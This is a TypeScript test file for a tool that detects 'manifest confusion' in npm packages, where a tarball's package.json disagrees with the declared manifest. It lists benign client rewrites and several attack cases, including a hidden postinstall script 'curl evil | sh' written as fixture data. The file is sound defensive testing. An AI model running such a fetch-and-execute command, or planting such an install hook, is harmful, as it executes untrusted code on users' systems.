// Manifest against tarball: what clients legitimately change, and what nobody may.
import { describe, expect, test } from "vitest";
import { differences } from "./agreement.ts";
import type { Packed } from "./tarball.ts";

const BASE = { name: "@acme/odd", version: "1.2.0" };

function compare(declared: object, inside: object, beside: readonly string[] = []): readonly string[] {
  const manifest = { ...BASE, ...inside };
  const builds = beside.includes("binding.gyp") && (manifest as { gypfile?: boolean }).gypfile !== false;
  const packed: Packed = { manifest, beside: new Set(beside), builds, fileCount: 1, unpackedBytes: 1 };
  return differences({ ...BASE, ...declared }, packed);
}

describe("manifest and tarball agree when", () => {
  test.each<[string, object, object, string[]?]>([
    ["both are the same", { dependencies: { a: "1" } }, { dependencies: { a: "1" } }],
    ["npm cleaned the version", {}, { version: "v1.2.0" }],
    ["npm made bin an object and its path plain", { bin: { odd: "bin/x.js" } }, { bin: "./bin/x.js" }],
    ["bun named the bin by the whole name", { bin: { "@acme/odd": "bin/x.js" } }, { bin: "./bin/x.js" }],
    ["npm read directories.bin", { bin: { a: "cmd/a" } }, { directories: { bin: "./cmd" } }],
    [
      "npm took ./node_modules/.bin/ off a script",
      { scripts: { t: "vitest run" } },
      { scripts: { t: "./node_modules/.bin/vitest run" } },
    ],
    ["npm added node-gyp for binding.gyp", { scripts: { install: "node-gyp rebuild" } }, {}, ["binding.gyp"]],
    ["another client did not", {}, {}, ["binding.gyp"]],
    ["npm added a start script for server.js", { scripts: { start: "node server.js" } }, {}, ["server.js"]],
    [
      "npm wrote a git shorthand out",
      { dependencies: { g: "github:user/repo" } },
      { dependencies: { g: "user/repo" } },
    ],
    [
      "npm wrote a git shorthand out as a URL",
      { dependencies: { g: "git+ssh://git@github.com/user/repo.git" } },
      { dependencies: { g: "user/repo" } },
    ],
    [
      "yarn 1 moved an optional dependency out of dependencies",
      { optionalDependencies: { o: "1" } },
      { dependencies: { o: "1" }, optionalDependencies: { o: "1" } },
    ],
    ["npm renamed bundledDependencies", { bundleDependencies: ["a"] }, { bundledDependencies: ["a"] }],
    [
      "npm wrote bundleDependencies out",
      { bundleDependencies: ["a"], dependencies: { a: "1" } },
      { bundleDependencies: true, dependencies: { a: "1" } },
    ],
    ["empty maps came or went", { dependencies: {}, scripts: {} }, {}],
  ])("%s", (_why, declared, inside, beside) => {
    expect(compare(declared, inside, beside)).toEqual([]);
  });
});

describe("threats D, manifest confusion: the difference is named when", () => {
  test.each<[string, object, object, RegExp, string[]?]>([
    [
      "a dependency is hidden in the tarball",
      {},
      { dependencies: { evil: "1" } },
      /dependencies\["evil"\] is absent in the manifest and "1" in the tarball/,
    ],
    [
      "a dependency is only declared",
      { dependencies: { evil: "1" } },
      {},
      /dependencies\["evil"\] is "1" in the manifest and absent/,
    ],
    [
      "a range differs",
      { dependencies: { a: "^1" } },
      { dependencies: { a: "^2" } },
      /"\^1" in the manifest and "\^2"/,
    ],
    [
      "an optional dependency is hidden",
      {},
      { optionalDependencies: { evil: "1" } },
      /optionalDependencies\["evil"\]/,
    ],
    [
      "an optional entry covers another range",
      { dependencies: { a: "1" } },
      { dependencies: { a: "1" }, optionalDependencies: { a: "2" } },
      /\["a"\]/,
    ],
    ["a peer dependency is hidden", {}, { peerDependencies: { evil: "1" } }, /peerDependencies/],
    ["a bundled dependency is hidden", {}, { bundledDependencies: ["evil"] }, /bundleDependencies\["evil"\]/],
    [
      "a dependency is named __proto__",
      {},
      JSON.parse('{"dependencies":{"__proto__":"1"}}') as object,
      /__proto__/,
    ],
    ["an alias differs", { dependencies: { a: "npm:b@1" } }, { dependencies: { a: "npm:c@1" } }, /npm:b@1/],
    [
      "another repository of the same host is meant",
      { dependencies: { g: "github:user/other" } },
      { dependencies: { g: "user/repo" } },
      /\["g"\]/,
    ],
    [
      "an install script is hidden",
      {},
      { scripts: { postinstall: "curl evil | sh" } },
      /scripts\["postinstall"\] is absent in the manifest and "curl evil \| sh"/,
    ],
    [
      "node-gyp is declared without binding.gyp",
      { scripts: { install: "node-gyp rebuild" } },
      {},
      /scripts\["install"\]/,
    ],
    [
      "another install script is passed off as node-gyp's",
      { scripts: { install: "evil" } },
      {},
      /scripts/,
      ["binding.gyp"],
    ],
    ["a bin is hidden", {}, { bin: { ls: "evil.js" } }, /bin\["ls"\]/],
    ["a bin leads elsewhere", { bin: { a: "a.js" } }, { bin: { a: "evil.js" } }, /bin\["a"\]/],
    [
      "a bin is declared outside directories.bin",
      { bin: { a: "lib/a" } },
      { directories: { bin: "bin" } },
      /outside directories.bin/,
    ],
    ["the name differs", {}, { name: "other" }, /name is "@acme\/odd" in the manifest and "other"/],
    ["the version differs", {}, { version: "1.2.1" }, /version/],
    ["the version is missing", {}, { version: undefined }, /absent in the tarball/],
  ])("%s", (_why, declared, inside, message, beside) => {
    expect(compare(declared, inside, beside).join("\n")).toMatch(message);
  });
});
